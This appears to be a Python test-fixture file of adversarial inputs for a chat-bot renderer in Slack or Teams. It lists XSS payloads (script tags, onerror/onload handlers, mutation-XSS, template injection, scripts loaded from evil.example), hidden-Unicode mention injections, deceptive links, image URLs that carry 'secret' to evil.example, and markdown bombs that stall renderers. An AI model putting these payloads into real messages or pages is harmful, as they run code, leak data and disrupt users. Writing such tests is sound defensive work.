"""Texts that would come alive in a chat, that look like something else than they are, or keep a renderer busy."""

from collections.abc import Mapping

from tests.fakes.odd_outcomes import SLACK, TEAMS, URLS

LOOKING_LIKE = (
    # turned round, hidden, or in other letters
    *(
        "safe \u202egnp.exe\u202c",
        "\u2066<!here>\u2069",
        "\u200f<@U1>",
        "<\u200b!channel>",
        "<!\u00adhere>",
        "＜!channel＞",
    ),
    *(
        "<@\u2060U12345>",
        "hхxps://еvil.example",
        "https://wіki.example/x",
        "＠here @channel @everyone",
        "[x](\u200bhttp://evil.example)",
    ),
    *("\u2028<!here>", "\u0000<!here>", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b[2J", "\ud800<!channel>"),
    # links that say one host and lead to another, and what is opened by itself
    *(
        "[https://wiki.example](https://evil.example)",
        "[wiki](https://wiki.example@evil.example)",
        "<https://evil.example>",
    ),
    *("![](https://evil.example/p.png?q=secret)", "[![a](http://evil.example/b.png)](http://evil.example)"),
    *('[x][1]\n\n[1]: https://evil.example "t"', "[1]:\nhttps://evil.example", "[1](https://evil.example)"),
    *(
        "<a href=https://evil.example>x</a>",
        "<img src=https://evil.example/p.png>",
        "<iframe src=https://evil.example>",
    ),
    *(
        "[x](javascript:alert(1))",
        "[x](data:text/html,y)",
        "[x](slack://open)",
        "[x](msteams:/l/chat)",
        "[x](tel:+1900)",
    ),
    *("mailto:a@evil.example", "ftp://evil.example", "evil\u3002example", "http:\u200b//evil.example"),
    # mark-up that ends ours
    *(
        "```\n<!channel>\n```",
        "```\n<at>Ada</at>",
        "`<!here>`",
        "~~~\n<@U1>",
        "> <!here>",
        "| <!here> |\n|-|\n| <@U1> |",
    ),
    *(
        "1. [1](http://evil.example)",
        "    <at>Ada</at>",
        "\\<!here>",
        "&lt;!here&gt;",
        "&#60;at&#62;x&#60;/at&#62;",
        "<!-- <!here> -->",
    ),
    # cards and blocks
    *(
        '{"type": "AdaptiveCard", "body": []}',
        '{"blocks": [{"type": "image"}]}',
        "{{DATE(2026-01-01, SHORT)}}",
        "${url}",
    ),
    *(
        "<attachment id=1></attachment>",
        "<emoji id=x></emoji>",
        "<systemEventMessage/>",
        "[card](https://evil.example/card.json)",
    ),
)

ENDLESS = {
    "brackets": "[" * 10_000,
    "closed brackets": "[" * 5_000 + "]" * 5_000,
    "links": "[a](" * 5_000,
    "images": "![" * 10_000,
    "as many images as are read": "![" * 2_000,
    "quotes": "> " * 1_000 + "deep",
    "quotes on lines": "\n".join("> " * depth + "a" for depth in range(300)),
    "lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "lists on a line": "- " * 1_000 + "deep",
    "both": "> - " * 500 + "deep",
    "stars": "*a" * 10_000,
    "two kinds of stars": "*a **b " * 2_800,
    "ticks": "".join("`" * count + " " for count in range(195)),
    "angles": "<" * 100_000,
    "entities": "&#60;" * 4_000,
    "backslashes": "\\" * 20_000,
    "table of 99 columns": "|" + "a|" * 99 + "\n|" + "-|" * 99 + "\n" + "|a\n" * 6_000,
    "wide table": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "|a\n" * 60,
    "long table": "|a|b|\n|-|-|\n" + "|a|b|\n" * 3_000,
    "rules": "---\n" * 5_000,
    "headings": "# a\n" * 5_000,
    "items": "- a\n" * 5_000,
    "one word": "a" * 100_000,
    "lines": "a\n" * 20_000,
    "addresses": "http://evil.example " * 5_000,
    "addresses without a blank": "http://" * 14_000,
    "markers": "[1] " * 25_000,
    "styles": "**a** `b` " * 1_800,
}

"""Markdown that renderers of others work at for minutes."""

RUNNING = (
    # each sets window.ran, or loads something, where a browser takes it for mark-up
    *(
        "<script>ran=1</script>",
        "<ScRiPt src=//evil.example/a.js></sCrIpT>",
        "<svg/onload=ran=1>",
        "<img src=x onerror=ran=1>",
    ),
    *("</textarea><script>ran=1</script>", "</title><script>ran=1</script>", "--><script>ran=1</script>"),
    *('"><script>ran=1</script>', "' autofocus onfocus=ran=1 x='", '" onmouseover=ran=1 x="', "`onclick=ran=1`"),
    *(
        "<style>@import '//evil.example/a.css'; *{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/a.css>",
    ),
    *(
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
        "<object data='data:text/html,<script>ran=1</script>'>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<embed src=//evil.example>",
    ),
    *("<form action=//evil.example><button>Ask", "<input autofocus onfocus=ran=1>", "<details open ontoggle=ran=1>"),
    *("<svg><script>ran=1</script></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>"),
    *(
        "[x](JaVaScRiPt:ran=1)",
        "[x](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==)",
        "<a href='java\tscript:ran=1'>",
    ),
    *("<template><script>ran=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=ran=1>'>"),
    *("&lt;script&gt;ran=1&lt;/script&gt;", "\u003cscript\u003eran=1\u003c/script\u003e", "＜script＞ran=1＜/script＞"),
    *("{{constructor.constructor('ran=1')()}}", "${ran=1}", "<video><source onerror=ran=1>", "<body onload=ran=1>"),
)

MARKUP: Mapping[str, str] = {
    **{f"running {ascii(each)[:60]}": f"The answer {each} is here." for each in RUNNING},
    **{f"mark-up {ascii(each)[:60]}": f"The answer {each} is here." for each in (*SLACK, *TEAMS, *URLS)},
    **{f"a text {ascii(each)[:60]}": each for each in LOOKING_LIKE},
}
